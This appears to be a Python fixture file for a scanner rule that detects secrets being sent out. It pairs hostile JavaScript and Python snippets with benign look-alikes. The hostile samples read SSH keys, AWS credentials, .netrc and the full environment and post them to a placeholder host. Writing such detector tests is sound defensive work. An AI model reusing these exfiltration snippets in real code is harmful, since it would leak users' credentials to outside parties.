"""Samples and twins of `secrets_sent`: what leaves, and by which way."""

from inspection.rules.sample import Sample, js, py

HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "gathered by push": js(
            "const fs = require('fs'), os = require('os'), all = [];\n"
            "all.push(['key', fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8')]);\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ list: { all } }) });\n",
        ),
        "in a form": js(
            "const fs = require('fs'), os = require('os'), Form = require('form-data');\n"
            "const form = new Form();\nform.append('f', fs.createReadStream(`${os.homedir()}/.aws/credentials`));\n"
            "require('axios').post('https://a.invalid', form, { headers: form.getHeaders() });\n",
            line=3,
        ),
        "in a header of another name": js(
            "const fs = require('fs'), os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n"
            "fetch('https://a.invalid', { headers: { 'X-Trace': key } });\n",
            line=3,
        ),
        "the environment put into a dictionary": py(
            "import os, requests\nreport = {'a': 1}\nreport.update(os.environ)\n"
            "requests.post('https://a.invalid', json=report)\n",
            line=3,
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "another list by push": {
            "app.js": "const fs = require('fs'), os = require('os'), all = [], own = [];\n"
            "own.push(['key', fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8')]);\nall.push(own.length > 0);\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ list: { all } }) });\n",
        },
        "a file of the project in a form": {
            "app.js": "const fs = require('fs'), Form = require('form-data');\n"
            "const form = new Form();\nform.append('f', fs.createReadStream(`${__dirname}/report.json`));\n"
            "require('axios').post('https://a.invalid', form, { headers: form.getHeaders() });\n",
        },
        "in the header that authenticates": {
            "app.js": "const fs = require('fs'), os = require('os');\n"
            "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').split('=')[1];\n"
            "fetch('https://a.invalid/pkg', { headers: { Authorization: `Bearer ${token}` } });\n",
        },
        "one setting put into a dictionary": {
            "app.py": "import os, requests\nreport = {'a': 1}\nreport.update(zone=os.environ['ZONE'])\n"
            "requests.post('https://a.invalid', json=report)\n",
        },
    },
}
